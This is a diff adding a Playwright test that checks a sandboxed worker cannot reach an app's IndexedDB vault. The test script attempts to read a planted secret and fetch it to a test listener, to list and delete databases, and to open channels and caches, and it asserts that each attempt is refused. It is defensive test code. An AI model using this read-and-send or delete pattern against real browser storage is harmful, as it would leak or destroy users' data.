@@ -148,6 +148,55 @@ test('what was kept from before the seal is shut, and what was open is cut', asy
   await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
 });
 
+test('while it is open, script in the worker reaches no database but that of the weights: not the vault', async ({
+  page,
+}) => {
+  // Same origin, so the vault's database and its key are within reach of any script here, if nothing is in the way.
+  await page.goto(`${site.url}/world/demo.json`);
+  await page.evaluate(
+    (secret) =>
+      new Promise<void>((resolve) => {
+        const request = indexedDB.open('e2p-vault-default', 1);
+        request.onupgradeneeded = () => request.result.createObjectStore('records').put(secret, 'embedding');
+        request.onsuccess = () => {
+          request.result.close();
+          resolve();
+        };
+      }),
+    SECRET,
+  );
+  const worker = await open(page, {
+    script: `
+      fetch('${listener.url}/it-runs');
+      kept = { refused: [] };
+      for (const [name, work] of Object.entries({
+        open: () => {
+          const request = indexedDB.open('e2p-vault-default');
+          request.onsuccess = () => {
+            const get = request.result.transaction('records').objectStore('records').get('embedding');
+            get.onsuccess = () => fetch('${listener.url}/vault?' + get.result);
+          };
+        },
+        databases: () => indexedDB.databases(),
+        deleteDatabase: () => indexedDB.deleteDatabase('e2p-vault-default'),
+        channel: () => new BroadcastChannel('e2p-vault-default'),
+        cache: () => caches.open('e2p-demo'),
+        caches: () => caches.match('/'),
+      })) {
+        try { work(); kept.refused.push(name + ' OPEN'); } catch (error) { kept.refused.push(name + ' ' + error.code); }
+      }`.replace('kept =', 'const kept = globalThis.kept ='),
+    headers: { 'content-security-policy': LOOSE_CONNECT },
+  });
+  const refused = await worker.evaluate(
+    () => (globalThis as unknown as { kept: { refused: string[] } }).kept.refused,
+  );
+  await page.waitForTimeout(500);
+  expect(listener.heard).toEqual(['GET /it-runs']);
+  expect(refused).toEqual(
+    ['open', 'databases', 'deleteDatabase', 'channel', 'cache', 'caches'].map((name) => `${name} sealed`),
+  );
+});
+
 const shown = (page: Page) => page.getByTestId('privacy');
 
 test('a strict policy that only reports is not taken for a seal', async ({ page }) => {
